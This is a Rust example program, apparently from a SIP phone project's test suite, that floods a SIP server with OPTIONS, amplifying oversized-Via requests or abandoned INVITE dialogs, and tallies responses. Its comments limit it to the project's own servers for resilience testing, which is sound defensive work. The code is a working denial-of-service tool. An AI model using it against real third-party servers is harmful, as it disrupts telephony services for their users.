//! One attacker: floods a SIP server with requests at a rate, for a bounded time, and counts what comes back.
//!
//! It is the other half of `load`: that one makes honest calls and says how many succeeded, this one tries to keep them out.
//! `tests/peers/attack.py` runs both against the phone. Use it against servers of your own only.
//!
//! ```text
//! cargo run --release --example attack -- 127.0.0.1:5060 --kind invite-ack --rate 5000 --seconds 20 --from 127.0.0.66
//! ```

use std::io::ErrorKind;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use clap::{Parser, ValueEnum};

/// Sent between two looks at the clock and at what came.
const BURST_MAX: u64 = 64;
/// An attack that lasts longer is a mistake.
const SECONDS_MAX: u64 = 120;

/// What the attacker sends.
#[derive(Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Kind {
    /// OPTIONS, each of its own.
    Options,
    /// OPTIONS whose Via headers fill a datagram: 15 KB that a response must echo.
    Vias,
    /// INVITE with an offer; the answer is never acknowledged.
    Invite,
    /// INVITE with an offer; the answer is acknowledged, and nothing ever follows.
    InviteAck,
}

/// Floods a SIP server.
#[derive(Parser)]
struct Attack {
    /// Whom to attack.
    target: SocketAddr,
    /// What to send.
    #[arg(long, value_enum, default_value = "options")]
    kind: Kind,
    /// Requests a second; what the machine cannot send is not made up for.
    #[arg(long, default_value_t = 1000)]
    rate: u64,
    /// For so long, 120 at most.
    #[arg(long, default_value_t = 10)]
    seconds: u64,
    /// Our address; port 0 is any.
    #[arg(long, default_value = "127.0.0.1")]
    from: IpAddr,
}

/// What became of it.
#[derive(Default)]
struct Totals {
    sent: u64,
    octets_sent: u64,
    octets_received: u64,
    acknowledged: u64,
    /// Responses by class, 1xx to 6xx, and requests to us (BYE) at 0.
    received: [u64; 7],
}

fn main() -> ExitCode {
    let attack = Attack::parse();
    match attack.run() {
        Ok(totals) => {
            let Totals { sent, octets_sent, octets_received, acknowledged, received } = totals;
            let [requests, trying, good, redirect, refused, failed, global] = received;
            let factor = octets_received as f64 / octets_sent.max(1) as f64;
            println!(
                "sent {sent} ({octets_sent} octets), back {octets_received} octets ({factor:.2} x): 1xx {trying} 2xx {good} 3xx \
                 {redirect} 4xx {refused} 5xx {failed} 6xx {global} requests {requests}, acknowledged {acknowledged}"
            );
            ExitCode::SUCCESS
        }
        Err(error) => {
            eprintln!("attack: {}: {error}", attack.target);
            ExitCode::FAILURE
        }
    }
}

impl Attack {
    fn run(&self) -> std::io::Result<Totals> {
        let socket = UdpSocket::bind((self.from, 0))?;
        socket.connect(self.target)?;
        socket.set_nonblocking(true)?;
        let local = socket.local_addr()?;
        let (started, time) = (Instant::now(), Duration::from_secs(self.seconds.min(SECONDS_MAX)));
        let (mut totals, mut buffer) = (Totals::default(), vec![0_u8; 65_536]);
        while started.elapsed() < time {
            let due = (started.elapsed().as_secs_f64() * self.rate as f64) as u64;
            let burst = due.saturating_sub(totals.sent).min(BURST_MAX);
            for _ in 0..burst {
                let request = self.request(local, totals.sent);
                if tolerant(socket.send(request.as_bytes()))? {
                    totals.octets_sent += request.len() as u64;
                }
                totals.sent += 1;
            }
            self.read(&socket, local, &mut buffer, &mut totals)?;
            if burst == 0 {
                std::thread::yield_now();
            }
        }
        // What is still on its way, to count it.
        socket.set_nonblocking(false)?;
        socket.set_read_timeout(Some(Duration::from_millis(200)))?;
        self.read(&socket, local, &mut buffer, &mut totals)?;
        Ok(totals)
    }

    fn read(
        &self,
        socket: &UdpSocket,
        local: SocketAddr,
        buffer: &mut [u8],
        totals: &mut Totals,
    ) -> std::io::Result<()> {
        for _ in 0..BURST_MAX {
            let length = match socket.recv(buffer) {
                Ok(length) => length,
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::ConnectionRefused) => break,
                Err(e) => return Err(e),
            };
            let bytes = buffer.get(..length).unwrap_or_default();
            totals.octets_received += length as u64;
            let class =
                bytes.strip_prefix(b"SIP/2.0 ").and_then(|rest| rest.first()).map(|c| c.wrapping_sub(b'0'));
            let class = usize::from(class.filter(|class| *class < 7).unwrap_or(0));
            if let Some(count) = totals.received.get_mut(class) {
                *count += 1;
            }
            if class == 2 && self.kind == Kind::InviteAck {
                let ack = ack(bytes, local, self.target);
                if tolerant(socket.send(ack.as_bytes()))? {
                    totals.octets_sent += ack.len() as u64;
                    totals.acknowledged += 1;
                }
            }
        }
        Ok(())
    }

    fn request(&self, local: SocketAddr, serial: u64) -> String {
        let method = if matches!(self.kind, Kind::Invite | Kind::InviteAck) { "INVITE" } else { "OPTIONS" };
        let target = self.target;
        let mut text = format!(
            "{method} sip:victim@{target} SIP/2.0\r\nVia: SIP/2.0/UDP {local};branch=z9hG4bKx{serial};rport\r\n"
        );
        if self.kind == Kind::Vias {
            // Each echoed by the response: 15 of a thousand octets.
            for hop in 0..15 {
                text += &format!("Via: SIP/2.0/UDP 192.0.2.{hop};branch=z9hG4bK{:a>960}\r\n", serial);
            }
        }
        text += &format!(
            "Max-Forwards: 70\r\nFrom: <sip:x@{local}>;tag=x{serial}\r\nTo: <sip:victim@{target}>\r\n\
             Call-ID: x{serial}@{local}\r\nCSeq: 1 {method}\r\nContact: <sip:x@{local}>\r\n"
        );
        if method == "OPTIONS" {
            return text + "Content-Length: 0\r\n\r\n";
        }
        let sdp = format!(
            "v=0\r\no=x {serial} 1 IN IP4 {ip}\r\ns=-\r\nc=IN IP4 {ip}\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0\r\n",
            ip = local.ip()
        );
        text + &format!("Content-Type: application/sdp\r\nContent-Length: {}\r\n\r\n{sdp}", sdp.len())
    }
}

/// The ACK of a 2xx.
fn ack(response: &[u8], local: SocketAddr, target: SocketAddr) -> String {
    let text = String::from_utf8_lossy(response);
    let header = |name: &str| {
        text.lines().find_map(|line| line.strip_prefix(name)).unwrap_or_default().trim().to_owned()
    };
    let contact = header("Contact:");
    let uri =
        contact.split_once('<').and_then(|(_, rest)| rest.split_once('>')).map(|(uri, _)| uri.to_owned());
    format!(
        "ACK {} SIP/2.0\r\nVia: SIP/2.0/UDP {local};branch=z9hG4bKa{}\r\nMax-Forwards: 70\r\nFrom: {}\r\nTo: {}\r\n\
         Call-ID: {}\r\nCSeq: 1 ACK\r\nContent-Length: 0\r\n\r\n",
        uri.unwrap_or_else(|| format!("sip:{target}")),
        header("Call-ID:").split('@').next().unwrap_or_default(),
        header("From:"),
        header("To:"),
        header("Call-ID:"),
    )
}

/// Whether a datagram left. One that could not is lost, as any may be.
fn tolerant(sent: std::io::Result<usize>) -> std::io::Result<bool> {
    match sent {
        Ok(_) => Ok(true),
        Err(e) if matches!(e.kind(), ErrorKind::ConnectionRefused | ErrorKind::WouldBlock) => Ok(false),
        Err(e) => Err(e),
    }
}
